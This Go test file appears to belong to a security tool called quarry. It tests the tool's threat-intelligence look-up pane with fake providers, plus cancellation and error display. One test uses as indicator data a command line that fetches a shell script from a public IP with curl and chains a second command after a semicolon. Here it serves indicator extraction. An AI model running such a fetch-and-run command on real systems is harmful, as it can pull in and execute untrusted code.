package tui

import (
	"context"
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/quarry-sec/quarry/engine/intel"
	"github.com/quarry-sec/quarry/providers/ti"
	"github.com/quarry-sec/quarry/views/pane"
)

// fakeIntel answers look-ups for every IPv4 and domain after a delay.
type fakeIntel struct {
	name  string
	delay time.Duration
	calls atomic.Int64
}

func (f *fakeIntel) Name() string    { return f.name }
func (f *fakeIntel) Types() []string { return []string{"ipv4", "dns", "url"} }
func (f *fakeIntel) Lookup(ctx context.Context, ioc, typ string) intel.Result {
	f.calls.Add(1)
	select {
	case <-time.After(f.delay):
	case <-ctx.Done():
		return ti.NewResult(f.name, ioc, typ).Fail("%v", ctx.Err())
	}
	r := ti.NewResult(f.name, ioc, typ)
	r.Found, r.Severity, r.Status = true, intel.SevHigh, intel.StatusOK
	r.Details = map[string]any{"malicious": 3}
	r.Reference = "https://intel.example/" + ioc
	return r
}

// intelBackendFake is the shell's fake backend that can also look up.
type intelBackendFake struct {
	fakeBackend
	provs []ti.Provider
	notes []string
	err   error
	asked [][]string
}

func (b *intelBackendFake) LookupEngine(providers []string) (*ti.Engine, []string, func(), error) {
	b.asked = append(b.asked, providers)
	if b.err != nil {
		return nil, b.notes, nil, b.err
	}
	return &ti.Engine{Providers: b.provs}, b.notes, func() {}, nil
}

// runLookupMsgs sends a LookupTI and feeds every message back until the
// look-up ends.
func runLookupMsgs(t *testing.T, m *Model, req pane.LookupTI) {
	t.Helper()
	_, cmd := m.Update(req)
	settleUntil(t, m, cmd, 10*time.Second)
}

// settleUntil runs cmd's messages (and what they return) until none is left.
func settleUntil(t *testing.T, m *Model, cmd tea.Cmd, wait time.Duration) {
	for _, msg := range collectWithin(cmd, wait) {
		_, next := m.Update(msg)
		settleUntil(t, m, next, wait)
	}
}

func TestThreatIntelFlow(t *testing.T) {
	fast := &fakeIntel{name: "fastintel", delay: time.Millisecond}
	slow := &fakeIntel{name: "slowintel", delay: 30 * time.Millisecond}
	b := &intelBackendFake{provs: []ti.Provider{fast, slow}, notes: []string{"virustotal left out: no API key (set QUARRY_VT_KEY)"}}
	m, _ := newShellWith(t, b, 120, 40)
	runLookupMsgs(t, m, pane.LookupTI{Indicators: []pane.Indicator{{Value: "curl http://185.220.101.1/x.sh; ping 10.0.0.1"}}, Source: "CommandLine, row 3"})
	if m.Focused() != pane.ThreatIntel {
		t.Fatalf("focus %s", m.Focused())
	}
	// The URL and its host, each to both providers; 10.0.0.1 rejected before asking.
	if fast.calls.Load() != 2 || slow.calls.Load() != 2 {
		t.Errorf("calls fast=%d slow=%d, want 2 each", fast.calls.Load(), slow.calls.Load())
	}
	if m.Tasks() != 0 {
		t.Errorf("%d tasks still running", m.Tasks())
	}
	s := screen(m)
	for _, want := range []string{"185.220.101.1", "http://185.220.101.1/x.sh", "fastintel", "slowintel", "10.0.0.1", "not a public address", "QUARRY_VT_KEY"} {
		if !strings.Contains(s, want) {
			t.Errorf("the pane lacks %q:\n%s", want, s)
		}
	}
}

func TestThreatIntelCancelAndSupersede(t *testing.T) {
	slow := &fakeIntel{name: "slowintel", delay: time.Hour}
	b := &intelBackendFake{provs: []ti.Provider{slow}}
	m, _ := newShellWith(t, b, 120, 40)
	_, cmd := m.Update(pane.LookupTI{Indicators: []pane.Indicator{{Value: "8.8.8.8"}}, Source: "typed"})
	done := make(chan []tea.Msg)
	go func() { done <- collectWithin(cmd, 5*time.Second) }()
	time.Sleep(50 * time.Millisecond)
	if m.Tasks() != 1 {
		t.Fatalf("tasks = %d", m.Tasks())
	}
	// A newer look-up cancels the older one; its messages are dropped.
	first := m.seq[pane.ThreatIntel]
	m.cancelFor(pane.ThreatIntel)
	select {
	case msgs := <-done:
		var ended bool
		for _, msg := range msgs {
			if td, ok := msg.(taskDone); ok {
				if d, ok := td.msg.(pane.TIDone); ok && errors.Is(d.Err, context.Canceled) && d.Seq == first {
					ended = true
				}
			}
			_, next := m.Update(msg)
			settle(m, next)
		}
		if !ended {
			t.Errorf("no cancelled TIDone among %v", msgs)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("cancelling did not end the look-up")
	}
	if m.Tasks() != 0 {
		t.Errorf("%d tasks after cancel", m.Tasks())
	}
}

func TestThreatIntelNotSetUp(t *testing.T) {
	b := &intelBackendFake{err: errors.New("no threat-intelligence provider to ask")}
	m, _ := newShellWith(t, b, 120, 40)
	runLookupMsgs(t, m, pane.LookupTI{Indicators: []pane.Indicator{{Value: "8.8.8.8"}}, Source: "typed"})
	if s := screen(m); !strings.Contains(s, "no threat-intelligence provider to ask") {
		t.Errorf("the error is not shown:\n%s", s)
	}
	// A backend that cannot look up at all says so too.
	m2, _ := newShell(t, &fakeBackend{}, 120, 40)
	runLookupMsgs(t, m2, pane.LookupTI{Indicators: []pane.Indicator{{Value: "8.8.8.8"}}, Source: "typed"})
	if s := screen(m2); !strings.Contains(s, "not set up") {
		t.Errorf("no set-up message:\n%s", s)
	}
}

// newShellWith is newShell for any backend.
func newShellWith(t testing.TB, b Backend, w, h int) (*Model, error) {
	t.Helper()
	m, err := New(context.Background(), b, Options{NoColor: true, Now: func() time.Time { return clock }})
	if err != nil {
		t.Fatal(err)
	}
	send(m, tea.WindowSizeMsg{Width: w, Height: h})
	settle(m, m.Init())
	return m, nil
}
